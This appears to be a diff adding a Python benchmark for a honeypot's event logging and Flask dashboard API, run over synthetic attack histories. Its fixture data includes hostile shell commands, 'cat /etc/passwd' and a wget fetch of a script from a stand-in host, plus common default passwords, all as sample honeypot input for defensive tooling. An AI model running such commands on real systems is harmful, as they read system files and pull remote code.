@@ -0,0 +1,208 @@
+"""Microbenchmarks of event logging and the dashboard API over synthetic histories.
+
+Usage: python -m benchmarks.api_bench [--events 10000,100000] [--backend ndjson]
+                                      [--days 30] [--iterations 200] [--json results.json]
+
+For each history size a temporary log directory is filled with that many
+events spread over --days day partitions (or an SQLite database with
+--backend sqlite), the dashboard is pointed at it, and then:
+  save_log                 queueing one event for the background writer
+  log_attempt              HoneypotLogger.log_attempt (one append per call)
+  GET/POST <endpoint>      each dashboard API endpoint through the Flask test
+                           client (/api/export streams one day of events)
+are called --iterations times in a row. Loading the history (building the
+cache and statistics) is timed once as "load". /api/stream is left out: it
+never ends.
+
+Sizes up to 10M events work but take minutes (and memory) to generate and
+load.
+"""
+import argparse
+import gzip
+import json
+import os
+import random
+import shutil
+import sys
+import tempfile
+import time
+from datetime import datetime, timedelta
+
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from benchmarks.common import bench_log_dir, print_results, quiet, summarize, time_calls, write_results
+from honeypot import utils
+from honeypot.eventlog import append_events, day_file
+from honeypot.sqlite_store import SQLiteEventStore, db_path
+
+USERNAMES = ["root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "pi", "guest", "git"]
+PASSWORDS = ["123456", "password", "admin", "root", "qwerty", "letmein", "toor", "1234", "changeme", ""]
+COMMANDS = ["uname -a", "id", "ls -la", "cat /etc/passwd", "wget http://203.0.113.5/x.sh", "ps aux"]
+PATHS = ["/", "/login", "/wp-login.php", "/.env", "/admin", "/phpmyadmin/", "/robots.txt"]
+
+
+def synthetic_events(count, days, seed=1):
+    """Yield (time, event) pairs: `count` plausible events spread evenly over the last `days` days.
+
+    Events come out oldest first, as the sensors append them.
+    """
+    rng = random.Random(seed)
+    ips = [f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+           for _ in range(5000)]
+    first = datetime.now().replace(hour=0, minute=0, second=0, microsecond=0) - timedelta(days=days - 1)
+    step = days * 86400 / count
+    for i in range(count):
+        when = first + timedelta(seconds=i * step)
+        event = {
+            "timestamp": when.strftime("%Y-%m-%d %H:%M:%S"),
+            "ip": rng.choice(ips),
+            "port": rng.randint(1024, 65535),
+        }
+        kind = rng.random()
+        if kind < 0.5:
+            event["type"] = "access"
+            event["data"] = f"HTTP GET {rng.choice(PATHS)}"
+        elif kind < 0.65:
+            event["type"] = "login_attempt"
+            event["path"] = "/login"
+            event["username"] = rng.choice(USERNAMES)
+            event["password"] = rng.choice(PASSWORDS)
+        elif kind < 0.9:
+            event["type"] = "ssh_login_attempt"
+            event["username"] = rng.choice(USERNAMES)
+            event["password"] = rng.choice(PASSWORDS)
+            event["protocol"] = "SSH"
+        else:
+            event["type"] = "ssh_command"
+            event["username"] = rng.choice(USERNAMES)
+            event["command"] = rng.choice(COMMANDS)
+            event["protocol"] = "SSH"
+        yield when, event
+
+
+def write_history(log_dir, count, days, backend, batch_size=10000):
+    """Fill log_dir with a synthetic history; return the number of seconds it took."""
+    start = time.monotonic()
+    store = SQLiteEventStore(db_path(log_dir)) if backend == "sqlite" else None
+    batch, batch_day = [], None
+    for when, event in synthetic_events(count, days):
+        day = when.date()
+        if batch and (len(batch) >= batch_size or day != batch_day):
+            _store(log_dir, store, batch_day, batch)
+            batch = []
+        batch_day = day
+        batch.append(event)
+    if batch:
+        _store(log_dir, store, batch_day, batch)
+    if store is not None:
+        store.close()
+    return time.monotonic() - start
+
+
+def _store(log_dir, store, day, events):
+    if store is not None:
+        store.insert_many(events)
+    else:
+        append_events(day_file(log_dir, datetime.combine(day, datetime.min.time())), events)
+
+
+def load_app(log_dir, backend):
+    """Point the dashboard at log_dir and load its history; return (app module, seconds)."""
+    with quiet():
+        import web.app as app_module
+
+    start = time.monotonic()
+    app_module.init_app(log_dir, backend)
+    return app_module, time.monotonic() - start
+
+
+def api_requests(days):
+    """(name, method, url, body, headers) of every API endpoint benchmarked."""
+    today = datetime.now()
+    yesterday = (today - timedelta(days=1)).strftime("%Y-%m-%d")
+    first_day = (today - timedelta(days=days - 1)).strftime("%Y-%m-%d")
+    ingest_body = gzip.compress("".join(
+        json.dumps({"ip": f"198.51.100.{i % 250 + 1}", "type": "access", "data": "bench"}) + "\n"
+        for i in range(100)
+    ).encode())
+    return [
+        ("GET /api/logs", "GET", "/api/logs?limit=100", None, None),
+        ("GET /api/logs (type filter)", "GET", "/api/logs?limit=100&type=ssh_login_attempt", None, None),
+        ("GET /api/logs (ip filter)", "GET", "/api/logs?limit=100&ip=203.0.113.99", None, None),
+        ("GET /api/logs (oldest day)", "GET", f"/api/logs?limit=100&end={first_day} 23:59:59", None, None),
+        ("GET /api/export (ndjson, 1 day)", "GET", f"/api/export?start={yesterday}&end={yesterday} 23:59:59", None, None),
+        ("GET /api/export (csv, 1 day)", "GET", f"/api/export?start={yesterday}&end={yesterday} 23:59:59&format=csv", None, None),
+        ("GET /api/stats", "GET", "/api/stats", None, None),
+        ("GET /api/stats (day)", "GET", "/api/stats?granularity=day&top=20", None, None),
+        ("GET /api/cache/stats", "GET", "/api/cache/stats", None, None),
+        ("GET /metrics", "GET", "/metrics", None, None),
+        ("GET /api/honeypot/activity", "GET", "/api/honeypot/activity", None, None),
+        ("GET /api/honeypot/login-attempts", "GET", "/api/honeypot/login-attempts", None, None),
+        ("GET /api/honeypot/web-login-attempts", "GET", "/api/honeypot/web-login-attempts", None, None),
+        ("GET /api/honeypot/ssh-login-attempts", "GET", "/api/honeypot/ssh-login-attempts", None, None),
+        ("POST /api/log", "POST", "/api/log",
+         json.dumps({"ip": "198.51.100.7", "port": 22, "type": "login_attempt", "username": "root", "password": "x"}),
+         {"Content-Type": "application/json"}),
+        ("POST /api/ingest (100 events, gzip)", "POST", "/api/ingest", ingest_body,
+         {"Content-Type": "application/x-ndjson", "Content-Encoding": "gzip"}),
+        ("POST /api/settings", "POST", "/api/settings", json.dumps({"refresh": 5}),
+         {"Content-Type": "application/json"}),
+    ]
+
+
+def bench_size(count, args):
+    log_dir = tempfile.mkdtemp(prefix="honeypot-bench-history-")
+    results = {}
+    try:
+        generated = write_history(log_dir, count, args.days, args.backend)
+        print(f"{count} events written in {generated:.1f}s")
+        app_module, loaded = load_app(log_dir, args.backend)
+        results["load"] = summarize([loaded], loaded)
+
+        # The sensors' path: save_log only queues, the writer thread writes
+        # (to the benchmark's own log directory, not the history)
+        entry = {"timestamp": "", "ip": "198.51.100.7", "port": 4444, "type": "access", "data": "HTTP GET /"}
+        results["save_log"] = time_calls(lambda: utils.save_log(dict(entry)), args.iterations * 10)
+        utils.get_log_writer().flush()
+
+        logger = app_module.logger
+        results["log_attempt"] = time_calls(
+            lambda: logger.log_attempt("198.51.100.7", 22, "ssh_login_attempt", "root", "toor"),
+            args.iterations)
+
+        client = app_module.app.test_client()
+        for name, method, url, body, headers in api_requests(args.days):
+            def call():
+                response = client.open(url, method=method, data=body, headers=headers)
+                response.get_data()
+                if response.status_code != 200:
+                    raise RuntimeError(f"{name}: HTTP {response.status_code}")
+            with quiet():
+                results[name] = time_calls(call, args.iterations)
+    finally:
+        shutil.rmtree(log_dir, ignore_errors=True)
+    return results
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--events", default="10000,100000",
+                        help="comma-separated history sizes, e.g. 10000,100000,1000000,10000000")
+    parser.add_argument("--backend", choices=["ndjson", "sqlite"], default="ndjson")
+    parser.add_argument("--days", type=int, default=30)
+    parser.add_argument("--iterations", type=int, default=200)
+    parser.add_argument("--json", help="write the results to this file")
+    args = parser.parse_args()
+
+    bench_log_dir(backend=args.backend)
+    results = {}
+    for count in (int(size) for size in args.events.split(",") if size):
+        results[str(count)] = bench_size(count, args)
+        print(f"{count} events ({args.backend}), {args.iterations} calls per endpoint")
+        print_results(results[str(count)])
+    if args.json:
+        write_results(args.json, "api", args, results)
+
+
+if __name__ == "__main__":
+    main()